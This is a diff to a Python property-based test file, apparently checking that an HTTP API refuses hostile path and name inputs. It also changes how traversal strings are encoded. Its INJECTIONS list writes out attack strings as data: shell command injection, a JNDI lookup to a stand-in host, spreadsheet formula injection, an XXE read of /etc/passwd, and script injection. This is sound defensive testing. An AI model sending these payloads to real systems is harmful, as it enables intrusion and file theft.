@@ -36,8 +36,8 @@ INJECTIONS = (
     "x\r\nSet-Cookie: hotspots=1", "x\nlevel=ERROR message=forged", "$(id)", "`id`", "; id", "| id",
     "${jndi:ldap://elders.example/a}", "=cmd|' /C calc'!A0", "<script>alert(1)</script>",
     "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;", "\u202e", "\x00", "\x1b[31m",
-    "%s%s%s%n", "{0.__class__.__mro__}", "__proto__", "\ufeff", "\U0001d7cf", "١٢٣", "9" * 5_000, "1e999",
-    "-0", "NaN", "null", "a" * 4_000,
+    "%s%s%s%n", "{0.__class__.__mro__}", "__proto__", "\ufeff", "\U0001d7cf", "١٢٣", "9" * 5_000,
+    "1e999", "-0", "NaN", "null", "a" * 4_000,
 )  # fmt: skip
 
 READS = [
@@ -95,9 +95,6 @@ def require_refused(answer: Response, *statuses: int) -> None:
     """Require a problem that says what is wrong, and nothing of what is inside."""
     assert 400 <= answer.status_code < 500, (answer.status_code, answer.text[:500])
     assert answer.status_code in (statuses or range(400, 500)), answer.text[:500]
-    if not answer.url.path.startswith("/v1"):  # `../` led out of it before it was sent
-        assert answer.status_code == 404
-        return
     assert answer.headers["Content-Type"] == "application/problem+json"
     told = answer.json()
     assert told["status"] == answer.status_code
@@ -120,10 +117,16 @@ _SEEDED = settings(
 
 
 # ---------------------------------------------------------------- addresses
+def _as_it_is(traversal: str) -> str:
+    """Keep the client from following a way up itself: the app is to see it."""
+    return traversal.replace(".", "%2e")
+
+
 @settings(_SEEDED, max_examples=400)
 @given(
     path=st.sampled_from(NAMED),
-    hostile=st.sampled_from(TRAVERSALS) | st.sampled_from(INJECTIONS).map(lambda x: quote(x, "")),
+    hostile=st.sampled_from(TRAVERSALS).map(_as_it_is)
+    | st.sampled_from(INJECTIONS).map(lambda x: quote(x, "")),
     place=st.integers(0, 3),
 )
 def test_a_name_that_is_none_leads_nowhere(
